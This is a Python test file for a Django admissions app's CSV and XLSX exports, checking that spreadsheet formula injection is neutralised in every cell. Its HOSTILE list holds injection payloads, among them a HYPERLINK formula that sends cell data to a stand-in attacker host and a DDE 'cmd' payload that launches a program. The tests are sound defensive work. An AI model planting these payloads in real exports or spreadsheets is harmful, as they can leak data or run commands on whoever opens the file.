"""Exports: CSV and XLSX, with spreadsheet-formula injection neutralised in every cell."""

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.http import StreamingHttpResponse
from django.utils.translation import gettext_lazy

from admissions.infra.exports import (
    CSV_CONTENT_TYPE,
    csv_bytes,
    csv_cell,
    csv_stream,
    neutralise,
    xlsx_bytes,
    xlsx_write,
)


# What an applicant could type in a field to attack whoever opens the export.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?d="&A1,"clic")',
    "+33 6 12 34 56 78",
    "-2+3",
    "-5",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width equals sign
    "\x00=1",
]
HARMLESS = ["MARTIN", "Le Gall", " =1+1", "1+1", "'=déjà neutralisé", "", "a;b", 'dit "bonjour"']


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_gets_a_leading_apostrophe(value):
    assert neutralise(value) == "'" + value
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_text_is_left_alone(value):
    assert neutralise(value) == value


def test_typed_values_keep_their_meaning_in_csv():
    assert csv_cell(None) == ""
    assert csv_cell(-5) == "-5"  # a number cannot carry a formula
    assert csv_cell("-5") == "'-5"  # the same characters as text are neutralised
    assert csv_cell(-2.5) == "-2,5"
    assert csv_cell(Decimal("3.10")) == "3,10"
    assert csv_cell(float("nan")) == "nan"
    assert csv_cell(True) == "oui"
    assert csv_cell(dt.date(2026, 1, 31)) == "31/01/2026"
    aware = dt.datetime(2026, 7, 1, 8, 30, tzinfo=dt.UTC)
    assert csv_cell(aware) == "01/07/2026 10:30:00"  # Europe/Paris in summer
    assert csv_cell(gettext_lazy("Confirmé")) == "Confirmé"


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_neutralises_every_position_headers_included():
    headers = ["=en-tête", *HOSTILE[1:3]]
    rows = [HOSTILE[i : i + 3] for i in range(0, len(HOSTILE), 3)]
    table = _read_csv(csv_bytes(headers, rows))
    assert table[0] == ["'" + h for h in headers]
    for written, read in zip(rows, table[1:], strict=True):
        assert read == ["'" + value for value in written]
    for line in table:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_is_excel_french_and_quotes_what_needs_it():
    data = csv_bytes(["nom", "remarque"], [["LEFÈVRE", 'a;b "c"\nd'], ["É", None]])
    assert data.startswith(b"\xef\xbb\xbfnom;remarque\r\n")
    assert _read_csv(data) == [["nom", "remarque"], ["LEFÈVRE", 'a;b "c"\nd'], ["É", ""]]


def test_csv_stream_is_lazy_and_fits_a_streaming_response():
    produced = []

    def rows():
        for n in range(1000):
            produced.append(n)
            yield [n, f"=ligne {n}"]

    stream = csv_stream(["n", "texte"], rows())
    first = next(stream)
    assert first == "\ufeffn;texte\r\n".encode()
    assert produced == []  # nothing read before the header went out
    second = next(stream)
    assert 0 < len(produced) < 1000
    assert second.startswith(b"0;'=ligne 0\r\n")
    response = StreamingHttpResponse(stream, content_type=CSV_CONTENT_TYPE)
    body = first + second + b"".join(response.streaming_content)
    table = _read_csv(body)
    assert len(table) == 1001
    assert table[-1] == ["999", "'=ligne 999"]


def _xlsx_cells(data: bytes) -> list[list[object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


def _unescape(text: str) -> str:
    """XLSX stores control characters as _xHHHH_ (Excel reads them back; openpyxl does not)."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def test_xlsx_writes_hostile_text_as_neutralised_strings_never_formulas():
    headers = ["=en-tête", "@b", "c"]
    rows = [HOSTILE[i : i + 3] for i in range(0, len(HOSTILE), 3)]
    data = xlsx_bytes(headers, rows, sheet_name="Résultats")
    table = _xlsx_cells(data)
    assert [c.value for c in table[0]] == ["'=en-tête", "'@b", "c"]
    for written, cells in zip(rows, table[1:], strict=True):
        for value, cell in zip(written, cells, strict=True):
            assert cell.data_type == "s", (value, cell.data_type)
            assert _unescape(cell.value) == "'" + value
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula element anywhere


def test_xlsx_keeps_numbers_dates_and_booleans_typed():
    aware = dt.datetime(2026, 1, 15, 9, 0, tzinfo=dt.UTC)
    rows = [[-5, "-5", 2.5, Decimal("1.25"), True, dt.date(2026, 1, 31), aware, None, 2**60]]
    (_header, cells) = _xlsx_cells(xlsx_bytes(list("abcdefghi"), rows))
    values = [c.value for c in cells]
    assert values[:5] == [-5, "'-5", 2.5, 1.25, "oui"]
    assert [c.data_type for c in cells[:4]] == ["n", "s", "n", "n"]
    assert values[5] == dt.datetime(2026, 1, 31)
    assert values[6] == dt.datetime(2026, 1, 15, 10, 0)  # local time, Europe/Paris in winter
    assert cells[5].number_format == "dd/mm/yyyy"
    assert values[7] is None
    assert values[8] == str(2**60)  # beyond a double's precision: kept whole, as text


def test_xlsx_write_streams_to_a_file(tmp_path):
    path = tmp_path / "export.xlsx"
    with path.open("wb") as out:
        xlsx_write(out, ["n"], ([n] for n in range(5000)), sheet_name="a/b:c*?[]")
    workbook = openpyxl.load_workbook(path, read_only=True)
    assert workbook.sheetnames == ["a b c"]
    assert workbook.active.max_row == 5001
